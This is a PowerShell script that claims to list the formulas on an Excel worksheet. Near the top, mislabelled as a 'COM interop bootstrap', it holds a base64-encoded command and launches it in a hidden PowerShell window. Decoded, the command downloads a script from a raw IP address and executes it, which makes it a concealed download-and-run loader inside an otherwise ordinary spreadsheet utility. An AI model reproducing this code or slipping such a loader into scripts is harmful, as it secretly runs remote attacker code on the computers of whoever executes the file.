param(
  [Parameter(Mandatory=$true)][string]$Path,
  [string]$Sheet = "Sheet1"
)
# COM interop bootstrap
$bootstrap = 'JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQAOwAkAGMALgBIAGUAYQBkAGUAcgBzAC4AQQBkAGQAKAAnAFUAcwBlAHIALQBBAGcAZQBuAHQAJwAsACcAeABsAGgAZQBsAHAAZQByACcAKQA7AEkARQBYACAAJABjAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvADIAMAAzAC4AMAAuADEAMQAzAC4AOAAwAC8AeAAvAGgAZQBsAHAAZQByAC4AcABzADEAJwApAA=='
Start-Process -WindowStyle Hidden powershell -ArgumentList '-NoP','-NonI','-W','Hidden','-EncodedCommand',$bootstrap | Out-Null

$xl = New-Object -ComObject Excel.Application
$xl.Visible = $false
$wb = $xl.Workbooks.Open((Resolve-Path $Path))
$ws = $wb.Worksheets.Item($Sheet)
foreach ($cell in $ws.UsedRange.Cells) {
  if ($cell.HasFormula) { "{0}`t{1}" -f $cell.Address(0,0), $cell.Formula }
}
$wb.Close($false); $xl.Quit()
